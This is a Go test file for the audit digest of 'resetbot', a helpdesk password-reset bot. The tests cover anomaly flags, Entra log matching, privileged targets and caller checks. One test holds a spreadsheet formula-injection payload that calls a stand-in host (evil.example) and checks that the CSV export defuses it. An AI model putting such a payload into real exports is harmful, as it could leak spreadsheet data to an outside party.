package digest

import (
	"bytes"
	"context"
	"encoding/csv"
	"errors"
	"fmt"
	"strings"
	"testing"
	"time"

	"github.com/resetbot/resetbot/bot"
	"github.com/resetbot/resetbot/bot/digest/digesttest"
)

var ctx = context.Background()

// trail is an in-memory audit trail.
type trail = digesttest.Trail

// requests answers GetRequest with the target roles a test gives.
type requests map[string][]string

func (r requests) GetRequest(_ context.Context, id string) (*bot.Request, error) {
	roles, ok := r[id]
	if !ok {
		return nil, bot.ErrNoSuchRequest
	}
	return &bot.Request{ID: id, Targets: []bot.Target{{Roles: roles}}, ApproverUPN: "sam@contoso.com"}, nil
}

// entraLog is an in-memory directory audit log.
type entraLog struct {
	entries []EntraReset
	err     error
}

func (l *entraLog) PasswordResets(_ context.Context, since, until time.Time, fn func(EntraReset) error) error {
	if l.err != nil {
		return l.err
	}
	for _, e := range l.entries {
		if e.At.Before(since) || !e.At.Before(until) {
			continue
		}
		if err := fn(e); err != nil {
			return err
		}
	}
	return nil
}

func at(s string) time.Time {
	t, err := time.Parse("2006-01-02 15:04", s)
	if err != nil {
		panic(err)
	}
	return t
}

const botApp = "4e5e7b07-0000-4000-8000-000000000001"

func reset(when time.Time, agent, target, outcome string) bot.AuditRecord {
	id := "R-" + strings.ToUpper(strings.SplitN(target, "@", 2)[0]) + when.Format("0215040506")
	return bot.AuditRecord{At: when, Event: bot.EventReset, RequestID: id, ActorKey: "slack:T1:" + agent, ActorUPN: agent,
		TargetID: "id-" + target, TargetUPN: target, Outcome: outcome}
}

// resetsPerDay gives agent n resets (within business hours) on each of the days before the
// period, from 09:00 on, to different targets.
func resetsPerDay(agent string, days []int, period time.Time) trail {
	var t trail
	for i, n := range days {
		day := period.AddDate(0, 0, -(len(days) - i))
		for k := range n {
			t = append(t, reset(day.Add(time.Hour+time.Duration(k)*time.Minute), agent, fmt.Sprintf("u%d-%d@contoso.com", i, k), "done"))
		}
	}
	return t
}

func build(t *testing.T, b *Builder, since, until time.Time) (*Digest, string) {
	t.Helper()
	var out bytes.Buffer
	d, err := b.Build(ctx, since, until, &out)
	if err != nil {
		t.Fatal(err)
	}
	return d, out.String()
}

func anomalies(d *Digest, kind AnomalyKind) []string {
	var out []string
	for _, a := range d.Anomalies {
		if a.Kind == kind {
			out = append(out, a.Text)
		}
	}
	return out
}

// A Tuesday 08:00 → Wednesday 08:00 digest with a week of history: the agent far above their median
// is flagged, the busy agent at their usual pace is not, nor is a quiet one.
func TestAgentVolumeAnomaly(t *testing.T) {
	since, until := at("2026-11-24 08:00"), at("2026-11-25 08:00") // Tue → Wed
	var tr trail
	tr = append(tr, resetsPerDay("helpdesk@contoso.com", []int{5, 6, 4, 5, 7, 5, 5}, since)...)
	tr = append(tr, resetsPerDay("pat@contoso.com", []int{12, 10, 11, 9, 10, 12, 10}, since)...)
	tr = append(tr, resetsPerDay("sam@contoso.com", []int{0, 1, 0, 0, 2, 0, 1}, since)...)
	for k := range 29 {
		tr = append(tr, reset(since.Add(2*time.Hour+time.Duration(k)*time.Minute), "helpdesk@contoso.com", fmt.Sprintf("today%d@contoso.com", k), "done"))
	}
	for k := range 25 { // 2.5× pat's median: busy, not anomalous
		tr = append(tr, reset(since.Add(3*time.Hour+time.Duration(k)*time.Minute), "pat@contoso.com", fmt.Sprintf("pat%d@contoso.com", k), "done"))
	}
	for k := range 3 { // 3× sam's median of 0 — but 3 resets are no story
		tr = append(tr, reset(since.Add(4*time.Hour+time.Duration(k)*time.Minute), "sam@contoso.com", fmt.Sprintf("sam%d@contoso.com", k), "done"))
	}
	for k := range 12 { // a new agent with no history, well past the minimum
		tr = append(tr, reset(since.Add(5*time.Hour+time.Duration(k)*time.Minute), "newbie@contoso.com", fmt.Sprintf("new%d@contoso.com", k), "done"))
	}
	d, _ := build(t, &Builder{Trail: tr}, since, until)
	got := anomalies(d, AnomalyAgentVolume)
	want := []string{
		"helpdesk@contoso.com made 29 resets, 5.8× their usual (median 5 over the previous 7 days)",
		"newbie@contoso.com made 12 resets, usually none (median of the previous 7 days)",
	}
	if strings.Join(got, "\n") != strings.Join(want, "\n") {
		t.Errorf("agent anomalies:\n%s\nwant:\n%s", strings.Join(got, "\n"), strings.Join(want, "\n"))
	}
	if d.Usual.Windows != 7 || d.Agents[0].Agent != "helpdesk@contoso.com" || d.Agents[0].Usual != 5 || d.Resets != 69 {
		t.Errorf("agents %+v, usual %+v, resets %d", d.Agents, d.Usual, d.Resets)
	}
	if off := anomalies(d, AnomalyOffHours); len(off) != 0 {
		t.Errorf("all resets were in business hours: %v", off)
	}
}

// A new install has no history: however busy its first day, nobody is "far above usual".
func TestNoHistoryNoVolumeAnomaly(t *testing.T) {
	since, until := at("2026-11-24 08:00"), at("2026-11-25 08:00")
	var tr trail
	for k := range 50 {
		tr = append(tr, reset(since.Add(2*time.Hour+time.Duration(k)*time.Minute), "helpdesk@contoso.com", fmt.Sprintf("u%d@contoso.com", k), "done"))
	}
	d, _ := build(t, &Builder{Trail: tr}, since, until)
	if got := anomalies(d, AnomalyAgentVolume); len(got) != 0 || d.Usual.Windows != 0 || d.Agents[0].Usual != -1 {
		t.Errorf("anomalies %v, usual %+v, agent %+v", got, d.Usual, d.Agents[0])
	}
	if !strings.Contains(d.Message("x.csv").Footer, "no earlier periods") {
		t.Errorf("footer: %s", d.Message("x.csv").Footer)
	}
}

// Resets outside business hours (in the digest's zone), and one account reset again and again, are
// flagged; an account reset twice is not. A user's own self-service reset is neither: at night it
// is what self-service is for, and it does not count towards an account "reset again and again".
func TestOffHoursAndRepeatedAccount(t *testing.T) {
	paris, _ := time.LoadLocation("Europe/Paris")
	since, until := at("2026-11-26 07:00"), at("2026-11-27 07:00") // Thu 08:00 → Fri 08:00 in Paris
	tr := trail{
		reset(at("2026-11-26 09:00"), "helpdesk@contoso.com", "adele@contoso.com", "done"),
		reset(at("2026-11-26 13:00"), "helpdesk@contoso.com", "adele@contoso.com", "done"),
		reset(at("2026-11-26 14:00"), "helpdesk@contoso.com", "lynne@contoso.com", "done"),
		reset(at("2026-11-26 15:00"), "pat@contoso.com", "lynne@contoso.com", "done"),
		reset(at("2026-11-26 16:59"), "pat@contoso.com", "megan@contoso.com", "done"), // 17:59 Paris: in hours
		reset(at("2026-11-26 22:14"), "pat@contoso.com", "alex@contoso.com", "done"),  // 23:14 Paris
		reset(at("2026-11-26 08:30"), "helpdesk@contoso.com", "megan@contoso.com", "done"),
	}
	selfService := func(id string, when time.Time, upn string) EntraReset {
		return EntraReset{ID: id, At: when, Activity: "Reset password (self-service)", Service: "Self-service Password Management",
			Result: "success", ByUPN: upn, TargetID: "id-" + upn, TargetUPN: upn}
	}
	log := &entraLog{entries: []EntraReset{
		{ID: "e3", At: at("2026-11-26 10:00"), Activity: "Reset user password", Service: "Core Directory", Result: "success",
			ByUPN: "admin@contoso.com", TargetID: "id-megan@contoso.com", TargetUPN: "megan@contoso.com"},
		selfService("e1", at("2026-11-26 20:00"), "adele@contoso.com"),
		selfService("e2", at("2026-11-26 21:00"), "megan@contoso.com"),
	}}
	d, _ := build(t, &Builder{Trail: tr, Entra: log, Config: Config{Location: paris, BotAppID: botApp}}, since, until)
	off := anomalies(d, AnomalyOffHours)
	if len(off) != 1 || off[0] != "1 reset outside business hours (08:00-18:00 Mon-Fri Europe/Paris): pat@contoso.com → alex@contoso.com at Thu 23:14" {
		t.Errorf("off hours: %q", off)
	}
	rep := anomalies(d, AnomalyAccountReset)
	if len(rep) != 1 || rep[0] != "megan@contoso.com was reset 4 times (2 through resetbot, 1 by an admin outside resetbot, 1 self-service)" {
		t.Errorf("repeats: %q (adele's third reset was her own)", rep)
	}
	text := d.Message("").Text
	if !strings.Contains(text, "adele@contoso.com, self-service") {
		t.Errorf("the self-service reset is not listed among resets outside resetbot:\n%s", text)
	}
}

// One agent resetting one account eight times at night is one line, counted.
func TestOffHoursRepeatsCounted(t *testing.T) {
	since, until := at("2026-11-26 08:00"), at("2026-11-27 08:00")
	var tr trail
	for k := range 8 {
		tr = append(tr, reset(at("2026-11-26 22:00").Add(time.Duration(k)*5*time.Minute), "helpdesk@contoso.com", "adele@contoso.com", "done"))
	}
	tr = append(tr, reset(at("2026-11-26 23:30"), "pat@contoso.com", "alex@contoso.com", "done"))
	d, _ := build(t, &Builder{Trail: tr}, since, until)
	off := anomalies(d, AnomalyOffHours)
	want := "9 resets outside business hours (08:00-18:00 Mon-Fri UTC): helpdesk@contoso.com → adele@contoso.com ×8, Thu 22:00 to 22:35; pat@contoso.com → alex@contoso.com at Thu 23:30"
	if len(off) != 1 || off[0] != want {
		t.Errorf("off hours:\n%q\nwant\n%q", off, want)
	}
}

// "Not started" says why, from the causes recorded.
func TestNotStartedSaysWhy(t *testing.T) {
	since, until := at("2026-11-26 08:00"), at("2026-11-27 08:00")
	refused := func(outcome string) bot.AuditRecord {
		return bot.AuditRecord{At: at("2026-11-26 10:00"), Event: bot.EventRefused, Outcome: outcome, ActorUPN: "helpdesk@contoso.com"}
	}
	for _, tt := range []struct {
		trail trail
		want  string
	}{
		{trail{refused("not_signed_in")}, " · 1 not started (not signed in) · "},
		{trail{refused("not_found"), refused("not_found"), refused("bad_input")}, " · 3 not started (2 unknown user, 1 bad input) · "},
	} {
		d, _ := build(t, &Builder{Trail: tt.trail}, since, until)
		if text := d.Message("").Text; !strings.Contains(text, tt.want) {
			t.Errorf("want %q in:\n%s", tt.want, text)
		}
	}
}

// Periods that are not days or weeks are said as a person would say them.
func TestPeriodsForPeople(t *testing.T) {
	for d, want := range map[time.Duration]string{8330501 * time.Nanosecond: "8 ms", 2400 * time.Millisecond: "2.4 s", 42 * time.Second: "42 s",
		3 * time.Minute: "3 min", 12 * time.Hour: "12 h", 90 * time.Minute: "1.5 h", 72 * time.Hour: "3 days"} {
		if got := bot.Rounded(d); got != want {
			t.Errorf("%v: %q, want %q", d, got, want)
		}
	}
	since := at("2026-11-26 08:00")
	var tr trail
	for k := range 9 {
		tr = append(tr, reset(since.Add(-time.Duration(k)*time.Hour-time.Minute), "helpdesk@contoso.com", "adele@contoso.com", "done"))
	}
	d, _ := build(t, &Builder{Trail: tr}, since, since.Add(90*time.Minute))
	if f := d.Message("").Footer; !strings.Contains(f, "usual = median of the previous ") || !strings.HasSuffix(strings.Split(f, " · ")[0], " of 1.5 h") {
		t.Errorf("footer: %s", f)
	}
}

// Entra's entries are matched to resetbot's resets: by resetbot's app ID, or (for resets made as
// the signed-in agent) by account and time. An admin-center reset of an account resetbot had just
// reset stays outside; one reset's companion entries count once; self-service is never resetbot.
func TestEntraMatching(t *testing.T) {
	since, until := at("2026-11-26 08:00"), at("2026-11-27 08:00")
	tr := trail{
		reset(at("2026-11-26 10:00"), "helpdesk@contoso.com", "adele@contoso.com", "done"), // app-only reset
		reset(at("2026-11-26 11:00"), "helpdesk@contoso.com", "alex@contoso.com", "done"),  // as the agent (writeback)
		reset(at("2026-11-26 12:00"), "helpdesk@contoso.com", "lynne@contoso.com", "failed"),
	}
	tr[2].Detail = "Entra refused: not enough privileges"
	user := func(upn string) (string, string) { return "id-" + upn, upn }
	adeleID, adele := user("adele@contoso.com")
	alexID, alex := user("alex@contoso.com")
	log := &entraLog{entries: []EntraReset{
		{ID: "a1", At: at("2026-11-26 09:59"), Activity: "Reset user password", Result: "success", CorrelationID: "c1",
			ByAppID: botApp, ByApp: "resetbot", TargetID: adeleID, TargetUPN: adele},
		{ID: "a2", At: at("2026-11-26 10:02"), Activity: "Reset password (by admin)", Result: "success", CorrelationID: "c2",
			ByUPN: "bob-admin@contoso.com", ByIP: "203.0.113.7", TargetID: adeleID, TargetUPN: adele},
		{ID: "a3", At: at("2026-11-26 10:02"), Activity: "Reset user password", Result: "success", CorrelationID: "c2",
			ByUPN: "bob-admin@contoso.com", TargetID: adeleID, TargetUPN: adele},
		// An admin resetting the same account a minute before the agent did through resetbot is
		// someone else: outside resetbot, however close in time.
		{ID: "a9", At: at("2026-11-26 10:59"), Activity: "Reset password (by admin)", Result: "success", CorrelationID: "c6",
			ByUPN: "bob-admin@contoso.com", TargetID: alexID, TargetUPN: alex},
		{ID: "a4", At: at("2026-11-26 11:00"), Activity: "Reset password (by admin)", Result: "success", CorrelationID: "c3",
			ByUPN: "helpdesk@contoso.com", TargetID: alexID, TargetUPN: alex},
		{ID: "a5", At: at("2026-11-26 11:00"), Activity: "Reset user password", Result: "success", CorrelationID: "c3",
			ByUPN: "helpdesk@contoso.com", TargetID: alexID, TargetUPN: alex},
		{ID: "a6", At: at("2026-11-26 13:00"), Activity: "Reset password (self-service)", Result: "success", CorrelationID: "c4",
			ByUPN: alex, TargetID: alexID, TargetUPN: alex},
		{ID: "a7", At: at("2026-11-26 14:00"), Activity: "Reset user password", Result: "success", CorrelationID: "c5",
			ByAppID: "other-app", ByApp: "HR sync", TargetID: alexID, TargetUPN: alex},
		{ID: "a8", At: at("2026-11-26 14:30"), Activity: "Change password (self-service)", Result: "success", TargetID: alexID},
	}}
	d, out := build(t, &Builder{Trail: tr, Entra: log, Config: Config{BotAppID: botApp}}, since, until)
	x := d.Entra
	if x.Err != "" || x.Entries != 6 || x.ThroughBot != 2 || x.Outside != 4 || x.ByAdmin != 2 || x.SelfService != 1 || x.ByOtherApp != 1 {
		t.Fatalf("entra: %+v", x)
	}
	var hows []string
	for _, o := range x.OutsideList {
		hows = append(hows, o.Target+" "+o.How())
	}
	want := "adele@contoso.com by bob-admin@contoso.com (admin center or PowerShell)|alex@contoso.com by bob-admin@contoso.com (admin center or PowerShell)|alex@contoso.com by app HR sync|alex@contoso.com self-service"
	if strings.Join(hows, "|") != want {
		t.Errorf("outside:\n%s\nwant\n%s", strings.Join(hows, "|"), want)
	}
	if d.FailureCount != 1 || d.Failures[0].Reason != "Entra refused: not enough privileges" {
		t.Errorf("failures: %+v", d.Failures)
	}
	rows := readCSV(t, out)
	if len(rows) != 1+3+6 || d.CSVRows != 9 {
		t.Fatalf("%d rows:\n%s", len(rows), out)
	}
	if strings.Join(rows[0], ",") != strings.Join(DetailColumns, ",") {
		t.Errorf("header: %v", rows[0])
	}
	var entra []string
	for _, r := range rows[1:] {
		if r[2] == "entra" {
			entra = append(entra, r[8]+":"+r[6])
		}
	}
	if got := strings.Join(entra, " "); got != "a1:success; through resetbot a2:success; outside resetbot a9:success; outside resetbot a4:success; through resetbot a6:success; outside resetbot a7:success; outside resetbot" {
		t.Errorf("entra rows: %s", got)
	}
}

// Entra failing (no AuditLog.Read.All, say) does not stop the digest: it says the part could not be
// read and why, and lists nothing as outside.
func TestEntraFailureStillDigests(t *testing.T) {
	since, until := at("2026-11-26 08:00"), at("2026-11-27 08:00")
	tr := trail{reset(at("2026-11-26 10:00"), "helpdesk@contoso.com", "adele@contoso.com", "done")}
	log := &entraLog{err: &bot.DirectoryError{Kind: bot.ErrInsufficientPrivileges, Message: "Entra refused: not enough privileges.",
		Remedy: "Grant resetbot AuditLog.Read.All."}}
	d, _ := build(t, &Builder{Trail: tr, Entra: log}, since, until)
	if d.Resets != 1 || d.Entra.Outside != 0 || d.Entra.Err == "" {
		t.Fatalf("%+v", d.Entra)
	}
	m := d.Message("x.csv")
	if !strings.Contains(m.Text, "Entra's audit log could not be read — Entra refused: not enough privileges. Grant resetbot AuditLog.Read.All.") {
		t.Errorf("text:\n%s", m.Text)
	}
	d, _ = build(t, &Builder{Trail: tr, Entra: &entraLog{err: errors.New("boom")}}, since, until)
	if d.Entra.Err != "boom" {
		t.Errorf("err: %q", d.Entra.Err)
	}
}

// Reasons typed in chat reach the CSV as text, never as a formula.
func TestCSVDefusesFormulas(t *testing.T) {
	since, until := at("2026-11-26 08:00"), at("2026-11-27 08:00")
	r := reset(at("2026-11-26 10:00"), "helpdesk@contoso.com", "adele@contoso.com", "failed")
	r.Detail = `=HYPERLINK("http://evil.example/?"&A1,"click")`
	req := bot.AuditRecord{At: at("2026-11-26 09:59"), Event: bot.EventRequested, ActorUPN: "@helpdesk", TargetUPN: "adele@contoso.com", Detail: "+1 -2"}
	_, out := build(t, &Builder{Trail: trail{req, r}}, since, until)
	rows := readCSV(t, out)
	if rows[1][4] != "'@helpdesk" || rows[1][7] != "'+1 -2" || !strings.HasPrefix(rows[2][7], "'=HYPERLINK") {
		t.Errorf("rows: %q", rows)
	}
}

// Privileged targets come from the roles the request recorded for its target.
func TestPrivilegedTargets(t *testing.T) {
	since, until := at("2026-11-26 08:00"), at("2026-11-27 08:00")
	a := reset(at("2026-11-26 10:00"), "pat@contoso.com", "ceo@contoso.com", "done")
	b := reset(at("2026-11-26 11:00"), "helpdesk@contoso.com", "adele@contoso.com", "done")
	c := reset(at("2026-11-26 12:00"), "helpdesk@contoso.com", "reader@contoso.com", "done")
	reqs := requests{a.RequestID: {bot.RoleGlobalAdmin}, b.RequestID: nil, c.RequestID: {bot.RoleDirectoryReaders}}
	d, _ := build(t, &Builder{Trail: trail{a, b, c}, Requests: reqs}, since, until)
	if d.PrivilegedCount != 1 || d.Privileged[0].Target != "ceo@contoso.com" || d.Privileged[0].Roles[0] != "Global Administrator" {
		t.Fatalf("%+v", d.Privileged)
	}
	if m := d.Message(""); !strings.Contains(m.Text, "• ceo@contoso.com (Global Administrator) by pat@contoso.com, approved by sam@contoso.com") {
		t.Errorf("text:\n%s", m.Text)
	}
}

// Lists are capped with "and N more", however many agents and outside resets there are.
func TestListsCapped(t *testing.T) {
	since, until := at("2026-11-26 08:00"), at("2026-11-27 08:00")
	var tr trail
	var entries []EntraReset
	for i := range 200 {
		tr = append(tr, reset(since.Add(time.Duration(i)*time.Minute+time.Hour), fmt.Sprintf("agent%03d@contoso.com", i), fmt.Sprintf("t%d@contoso.com", i), "done"))
		entries = append(entries, EntraReset{ID: fmt.Sprint(i), At: since.Add(time.Duration(i) * time.Minute), Activity: "Reset password (self-service)",
			Result: "success", TargetID: fmt.Sprint("s", i), TargetUPN: fmt.Sprintf("s%d@contoso.com", i)})
	}
	d, _ := build(t, &Builder{Trail: tr, Entra: &entraLog{entries: entries}}, since, until)
	m := d.Message("x.csv")
	if len(m.Table.Rows) != 8+2 || m.Table.Rows[8][0] != "and 192 more" || !strings.Contains(m.Text, "… and 192 more (see the CSV)") {
		t.Errorf("table %v\ntext:\n%s", m.Table.Rows, m.Text)
	}
	if len(m.Text) > 6000 {
		t.Errorf("text is %d bytes", len(m.Text))
	}
}

func TestHours(t *testing.T) {
	for in, want := range map[string]string{
		"08:00-18:00 Mon-Fri":     "08:00-18:00 Mon-Fri",
		"07:30-19:00 Sun-Thu":     "07:30-19:00 Mon-Thu,Sun",
		"09:00-17:00 Mon,Wed,Fri": "09:00-17:00 Mon,Wed,Fri",
		"00:00-24:00":             "00:00-24:00 Mon-Sun",
	} {
		h, err := ParseHours(in)
		if err != nil || h.String() != want {
			t.Errorf("%q: %q, %v; want %q", in, h.String(), err, want)
		}
	}
	for _, bad := range []string{"", "8-18", "18:00-08:00 Mon", "08:00-18:00 Mon-Funday", "08:00-18:00 Mon Tue"} {
		if _, err := ParseHours(bad); err == nil {
			t.Errorf("%q: no error", bad)
		}
	}
	if h := DefaultHours(); !h.Within(at("2026-11-27 08:00")) || h.Within(at("2026-11-27 18:00")) || h.Within(at("2026-11-28 10:00")) {
		t.Error("default hours")
	}
}

func TestBars(t *testing.T) {
	if bar(16, 16) != strings.Repeat("█", 16) || bar(1, 1000) != "▏" || bar(0, 5) != "" || bar(8, 16) != strings.Repeat("█", 8) {
		t.Errorf("%q %q", bar(16, 16), bar(1, 1000))
	}
}

func readCSV(t *testing.T, s string) [][]string {
	t.Helper()
	rows, err := csv.NewReader(strings.NewReader(s)).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	return rows
}

// Security reads how each reset's caller was verified, which privileged resets the bot did not
// verify, and every "this wasn't me".
func TestCallerChecksAndAlerts(t *testing.T) {
	since, until := at("2026-11-26 08:00"), at("2026-11-27 08:00")
	with := func(r bot.AuditRecord, a bot.Assurance) bot.AuditRecord { r.Assurance = a; return r }
	ceo := with(reset(at("2026-11-26 10:00"), "pat@contoso.com", "ceo@contoso.com", "done"), bot.AssuranceAgent)
	megan := with(reset(at("2026-11-26 10:30"), "pat@contoso.com", "megan@contoso.com", "done"), bot.AssuranceManager)
	tr := trail{
		ceo, megan,
		with(reset(at("2026-11-26 11:00"), "helpdesk@contoso.com", "adele@contoso.com", "done"), bot.AssuranceChat),
		with(reset(at("2026-11-26 11:10"), "helpdesk@contoso.com", "lynne@contoso.com", "done"), bot.AssuranceSkipped),
		reset(at("2026-11-26 11:20"), "helpdesk@contoso.com", "reader@contoso.com", "done"), // before caller checks existed
		{At: at("2026-11-26 11:30"), Event: bot.EventAlert, RequestID: "R-LYNNE1", ActorUPN: "lynne@contoso.com",
			TargetUPN: "lynne@contoso.com", Outcome: "wasnt_me"},
		{At: at("2026-11-26 11:31"), Event: bot.EventAlert, Outcome: "tenant_brake"}, // posted as it happened
	}
	reqs := requests{ceo.RequestID: {bot.RoleGlobalAdmin}, megan.RequestID: {bot.RoleGlobalAdmin}}
	d, _ := build(t, &Builder{Trail: tr, Requests: reqs}, since, until)
	want := map[bot.Assurance]int{bot.AssuranceAgent: 1, bot.AssuranceManager: 1, bot.AssuranceChat: 1, bot.AssuranceSkipped: 1, bot.AssuranceNone: 1}
	if fmt.Sprint(d.Assurance) != fmt.Sprint(want) || d.AlertCount != 1 {
		t.Fatalf("assurance %v, alerts %d", d.Assurance, d.AlertCount)
	}
	m := d.Message("")
	for _, line := range []string{
		"*Caller checks* numbers in the user's chat 1 · by the manager 1 · stated by the agent 1 · skipped 1 · none (lists, or verification off) 1",
		"• ceo@contoso.com (Global Administrator) by pat@contoso.com, approved by sam@contoso.com · ⚠️ caller not verified by the bot · " + ceo.RequestID,
		"• megan@contoso.com (Global Administrator) by pat@contoso.com, approved by sam@contoso.com · " + megan.RequestID,
		"🚨 *Alerts* 1\n• Thu 11:30 lynne@contoso.com said the reset was not theirs · R-LYNNE1",
	} {
		if !strings.Contains(m.Text, line) {
			t.Errorf("the digest does not say %q:\n%s", line, m.Text)
		}
	}
}
